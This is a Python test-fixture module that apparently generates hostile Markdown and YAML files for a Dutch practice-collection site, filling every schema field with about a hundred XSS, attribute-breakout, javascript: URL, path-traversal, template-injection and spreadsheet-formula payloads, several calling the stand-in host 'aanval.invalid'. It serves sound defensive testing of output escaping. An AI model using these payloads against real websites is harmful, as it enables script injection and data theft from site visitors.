"""A hundred attacks, and documents that carry them in every field that the schema declares.

The fields come from the schema itself: a new one is attacked the day it is declared.
"""

from __future__ import annotations

import json
from itertools import count, cycle
from typing import TYPE_CHECKING, Any, get_args

from samenverder.reading.practice import KINDS
from samenverder.reading.schema import Schema, nested, sort_of
from samenverder.reading.values import Id
from samenverder.reading.vocabulary import VocabularyFile

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from samenverder.reading.practice import Kind

RUN = "alert(7)"
"""What each attack tries to run: a dialog is what a browser tells of it."""
ELSEWHERE = "aanval.invalid"
"""The host that attacks ask something of."""

_HTML = [
    "<script>alert(7)</script>",
    "</script><script>alert(7)</script>",
    "<ScRiPt>alert(7)</sCrIpT>",
    "<script src=//aanval.invalid/x.js></script>",
    "<script/src=data:text/javascript,alert(7)></script>",
    "<script type=module>import('//aanval.invalid/x.js')</script>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<script\x0c>alert(7)</script\x0c>",
    "<img src=x onerror=alert(7)>",
    "<img/src=x/onerror=alert(7)//",
    "<img src=//aanval.invalid/spion.gif>",
    "<img srcset='//aanval.invalid/spion.gif 1x'>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(7)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(7) /></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
    "<iframe src=javascript:alert(7)></iframe>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
    "<iframe src=//aanval.invalid></iframe>",
    "<object data=//aanval.invalid/x></object>",
    "<embed src=//aanval.invalid/x>",
    "<base href=//aanval.invalid/>",
    "<link rel=stylesheet href=//aanval.invalid/x.css>",
    "<link rel=preload as=image href=//aanval.invalid/x.png>",
    "<link rel=dns-prefetch href=//aanval.invalid>",
    "<meta http-equiv=refresh content='0;url=//aanval.invalid'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<style>@import '//aanval.invalid/x.css';</style>",
    "<style>body{background:url(//aanval.invalid/x.png)}</style>",
    "<div style=\"background:url(//aanval.invalid/x.png)\">x</div>",
    "<form action=//aanval.invalid><button>x</button></form>",
    "<button formaction=javascript:alert(7)>x</button>",
    "<input autofocus onfocus=alert(7)>",
    "<details open ontoggle=alert(7)>x</details>",
    "<video src=//aanval.invalid/x.mp4 onerror=alert(7) autoplay></video>",
    "<audio src=x onerror=alert(7)>",
    "<body onload=alert(7)>",
    "<marquee onstart=alert(7)>x</marquee>",
    "<template><script>alert(7)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(7)>\">",
    "<textarea></textarea><img src=x onerror=alert(7)>",
    "<!--><img src=x onerror=alert(7)>-->",
    "<![CDATA[><img src=x onerror=alert(7)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(7)>",
    "<a href=javascript:alert(7)>x</a>",
    "<a href=//aanval.invalid ping=//aanval.invalid>x</a>",
    "<x onclick=alert(7) tabindex=0 onfocus=alert(7) id=x>x</x>",
    "<sv-save practice=x name='<img src=x onerror=alert(7)>'></sv-save>",
]  # fmt: skip
_OUT_OF = [
    "\"><script>alert(7)</script>",
    "'><script>alert(7)</script>",
    "\" onmouseover=\"alert(7)\" x=\"",
    "' onmouseover='alert(7)' x='",
    "\" autofocus onfocus=alert(7) x=\"",
    "` onmouseover=`alert(7)`",
    "\"><img src=x onerror=alert(7)><\"",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(7)</script>",
    "</template><img src=x onerror=alert(7)>",
    "</script><img src=x onerror=alert(7)><script>",
    "</style><img src=x onerror=alert(7)>",
    "]]><script>alert(7)</script>",
    "--><img src=x onerror=alert(7)><!--",
    "\\\"><img src=x onerror=alert(7)>",
    "\"}</script><script>alert(7)</script>",
    "';alert(7)//",
    "\";alert(7)//",
    "\\';alert(7)//",
    "${alert(7)}",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(7)&#62;",
    "\\u003cimg src=x onerror=alert(7)\\u003e",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "\uff1cscript\uff1ealert(7)\uff1c/script\uff1e",
]  # fmt: skip
_ADDRESSES = [
    "javascript:alert(7)",
    "JaVaScRiPt:alert(7)",
    "java\\nscript:alert(7)",
    "javascript&colon;alert(7)",
    "javascript://%0aalert(7)",
    "javascript:alert(7)//https://voorbeeld.nl/",
    "https://voorbeeld.nl/\" onclick=\"alert(7)",
    "data:text/html,<script>alert(7)</script>",
    "data:image/svg+xml,<svg onload=alert(7)>",
    "vbscript:alert(7)",
    "//aanval.invalid/x",
    "\\\\aanval.invalid\\x",
    "http:/\\aanval.invalid",
    "../../../../etc/passwd",
    "[x](javascript:alert(7))",
    "[x](<javascript:alert(7)>)",
    "![x](//aanval.invalid/spion.gif)",
    "![x](https://aanval.invalid/spion.gif 'x\" onload=\"alert(7)')",
    "<javascript:alert(7)>",
]  # fmt: skip
_LANGUAGES = [
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "{% raw %}<script>alert(7)</script>",
    "$&$1$`<img src=x onerror=alert(7)>",
    "# <img src=x onerror=alert(7)> {: onclick=alert(7) }",
    "=HYPERLINK(\"//aanval.invalid\";\"x\")",
    "__proto__",
]  # fmt: skip
ATTACKS = [*_HTML, *_OUT_OF, *_ADDRESSES, *_LANGUAGES]

BASE: Mapping[str, Any] = {
    "onderwerpen": ["wonen"],
    "voorwaarden": ["vertrouwen"],
    "bronnen": [{"titel": "Het verslag", "vindplaats": "in de kast"}],
    "beoordeeld": "2026-01-31",
}


def hostile(model: type[Schema], attack: Callable[[], str]) -> dict[str, Any]:
    """Every field of a model with an attack in it; numbers and yes or no are right, so that the rest is looked at."""
    found: dict[str, Any] = {}
    for attribute, declared in model.model_fields.items():
        name = declared.alias or attribute
        plain, item, _, _ = sort_of(model, attribute)
        if within := nested(declared.annotation):
            value: Any = hostile(within, attack)
        elif plain in (int, float, bool) or item in (int, float, bool):
            value = 1
        else:
            value = attack()
        found[name] = [value] if plain is tuple else value
    return found


def told(model: type[Schema], attack: Callable[[], str]) -> dict[str, Any]:
    """As `hostile`, with right values where only a few are right: everything in it can be on a page."""
    found: dict[str, Any] = {}
    for attribute, declared in model.model_fields.items():
        name = declared.alias or attribute
        plain, item, choices, looks = sort_of(model, attribute)
        if within := nested(declared.annotation):
            value: Any = told(within, attack)
        elif choices:
            value = choices[0]
        elif Id in (declared.annotation, *get_args(declared.annotation)) or looks.get("format") == "id":
            continue
        elif looks.get("format") in ("date", "partial-date"):
            value = "2026-01-31"
        elif looks.get("format") == "uri":
            value = "https://voorbeeld.nl/?a=" + attack().translate(
                {ord(s): f"%{ord(s):02X}" for s in " <>\"'\\`\x0c"}
            )
        elif plain in (int, float, bool) or item in (int, float, bool):
            value = 1
        else:
            value = attack()
        found[name] = [value] if plain is tuple else value
    return found


def practice(kind: Kind, fields: Mapping[str, Any], attack: Callable[[], str], *, plain: bool = False) -> str:
    """A practice of a kind with these fields, and an attack at every place in its text where one can stand.

    `plain`: as code, which is a text like any other.
    """
    rows = {
        **fields,
        **{name: value for name, value in BASE.items() if name not in fields or name == "beoordeeld"},
    }
    return f"---\n{_rows(rows)}---\n" + "".join(
        f"## {heading}\n\n{_plain(attack) if plain else _text(attack)}\n" for heading in kind.sections
    )


def _plain(attack: Callable[[], str]) -> str:
    def said() -> str:
        return "``` " + attack().replace("`", "'").replace("\x0c", " ") + " ```"

    return (
        f"Gewone tekst [1]. {said()}\n\n### Kop {said()}\n\n- {said()}\n- **{said()}**\n\n> {said()}\n\n"
        f"| Kolom | {said()} |\n|---|---|\n| a | {said()} |\n\n````\n{attack()}\n````\n\nEen noot[^1].\n\n[^1]: {said()}\n"
    ).replace("\x0c", " ")


def _json(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def _rows(fields: Mapping[str, Any]) -> str:
    return "".join(f"{name}: {_json(value)}\n" for name, value in fields.items())


def _text(attack: Callable[[], str]) -> str:
    def said() -> str:
        return attack().replace("\x0c", " ")

    return (
        f"Gewone tekst [1]. {said()}\n\n{said()}\n\n### Kop {said()}\n\n- {said()}\n- [ ] {said()}\n\n> {said()}\n\n"
        f"| Kolom | {said()} |\n|---|---|\n| a | {said()} |\n\n```{said()}\n{said()}\n```\n\n`{said()}` **{said()}**\n\n"
        f'[tekst {said()}](aan-de-deur.md "{said()}") [dit adres]({said()}) [dat adres](<{said()}>) [zo][{said()}]\n\n'
        f"![Een tafel {said()}]({said()}) [[{said()}]] [[aan-de-deur|{said()}]] noot[^1]\n\n[^1]: {said()}\n"
    )


def collection(attacks: list[list[str]], *, right: bool) -> dict[str, str]:
    """Files below `practices/`: of each kind one for each row of attacks, and a vocabulary with all of them.

    A row is gone through field by field, over and over. `right`: only where a contributor may write freely.
    """
    filled = told if right else hostile
    files: dict[str, str] = {}
    number = count(1)
    for row in attacks:
        for kind in KINDS:
            attack = cycle(row).__next__
            fields = filled(kind.model, attack)
            fields |= {
                "status": "gepubliceerd",
                "gasten": [{"gemeente": attack()}, {"corporatie": [attack(), attack()]}],
            }
            if not right:
                fields |= {
                    "onderwerpen": ["wonen", attack()],
                    "voorwaarden": [{"vertrouwen": attack()}, {attack(): "miste"}],
                }
            at = next(number)
            fields["title"] = f"Aanval {at}: {fields['title']}"
            fields["samenvatting"] = (
                f"Aanval {at}, en genoeg woorden eromheen om te tellen als een samenvatting. {fields['samenvatting']}"
            )
            fields["aanvallen"] = [f"aanval-{at}"]
            files[f"{kind.folder}/aanval-{at}.md"] = practice(kind, fields, attack, plain=right)
    every = [attack for row in attacks for attack in row]
    again = cycle(every).__next__
    whole = filled(VocabularyFile, again)
    model = nested(VocabularyFile.model_fields["terms"].annotation)
    assert model
    whole |= {
        "veld": "aanvallen",
        "volgorde": 9,
        "standen": [],
        "verplicht_voor": [],
        "hoogstens": 9,
        "namen": True,
    }
    whole["begrippen"] = [
        {
            **filled(model, again),
            "id": f"aanval-{at}",
            "label": f"{at} {again()}",
            "lat": 52.1,
            "lon": 5.1,
            "vervangt": [],
        }
        for at in range(1, next(number))
    ]
    terms = whole.pop("begrippen")
    if right:
        terms = [
            {name: value for name, value in term.items() if name not in ("breder", "verwant")}
            for term in terms
        ]
    files["begrippen/aanval.yml"] = (
        _rows(whole) + "begrippen:\n" + "".join(f"  - {_json(term)}\n" for term in terms)
    )
    return files
